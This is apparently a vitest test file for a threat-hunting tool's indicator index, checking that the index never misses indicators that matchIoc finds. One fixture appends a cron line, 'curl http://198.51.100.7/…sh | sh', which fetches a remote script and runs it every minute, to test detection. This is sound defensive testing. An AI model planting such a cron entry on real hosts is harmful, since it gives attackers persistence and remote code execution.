import { readFileSync } from 'node:fs';
import path from 'node:path';
import { gunzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import type { HostFacts } from '../../../src/facts/types.js';
import type { Ioc } from '../../../src/findings/types.js';
import { matchIoc } from '../../../src/evidence/match-ioc.js';
import { collectIocs } from '../../../src/pivot/pivot.js';
import { openPivotIndex, pivotIndex } from '../../../src/pivot/pivot-index.js';
import { analyzeFleet } from '../../../src/detect/analyze-fleet.js';
import { CLEAN, SCENARIOS, catalogue, facts } from '../rules/fixtures.js';

// The pivot index stands in for a host's facts until the pivot: it may say "maybe" where
// matchIoc finds nothing, never "no" where matchIoc finds something.

const labDir = path.resolve(import.meta.dirname, '../../fixtures/facts/lab');
const lab = Object.keys(JSON.parse(readFileSync(path.join(labDir, 'scenarios.json'), 'utf8')) as object).map(
  (s) => JSON.parse(gunzipSync(readFileSync(path.join(labDir, `${s}.json.gz`))).toString('utf8')) as HostFacts,
);
const hand = [...SCENARIOS, ...CLEAN, 'pivot-only'].map((n) => {
  const f = facts(n);
  f.host = `fixture-${n}`;
  return f;
});
const fleet = [...lab, ...hand];
const found = collectIocs([...analyzeFleet(fleet, { catalogue }).findings.values()].flat()).map((x) => x.ioc);
// every indicator the fleet yielded, plus near misses that must not break the test either way
const iocs: Ioc[] = [...found, ...found.map((i) => ({ ...i, value: `${i.value}x` })), ...found.map((i) => ({ ...i, value: i.value.toUpperCase() }))];

describe('pivotIndex', () => {
  it(`has no false negatives: ${fleet.length} hosts × ${iocs.length} indicators`, () => {
    expect(found.length).toBeGreaterThan(20);
    const misses: string[] = [];
    let maybe = 0;
    for (const f of fleet) {
      const may = openPivotIndex(pivotIndex(f));
      for (const ioc of iocs) {
        const says = may(ioc);
        if (says) maybe++;
        if (!says && matchIoc(f, ioc).length) misses.push(`${f.host}: ${ioc.type} ${ioc.value}`);
      }
    }
    expect(misses).toEqual([]);
    // and it is selective: most host × indicator pairs are ruled out without the facts
    expect(maybe).toBeLessThan((fleet.length * iocs.length) / 4);
  });

  it('is a fraction of the facts and keeps host bytes that are not UTF-8', () => {
    const f = facts('clean');
    const bad = 'http://198.51.100.7/\udcff\udce9.sh';
    f.cron[0]!.content += `* * * * * curl ${bad} | sh\n`;
    const index = pivotIndex(f);
    expect(index.z.length * 5).toBeLessThan(JSON.stringify(lab[0]).length);
    const may = openPivotIndex(index);
    expect(may({ type: 'url', value: bad })).toBe(true);
    expect(matchIoc(f, { type: 'url', value: bad }).length).toBe(1);
    expect(may({ type: 'url', value: 'http://198.51.100.7/\ufffd\ufffd.sh' })).toBe(false);
    expect(may({ type: 'sha256', value: 'ab'.repeat(32) })).toBe(false);
  });
});
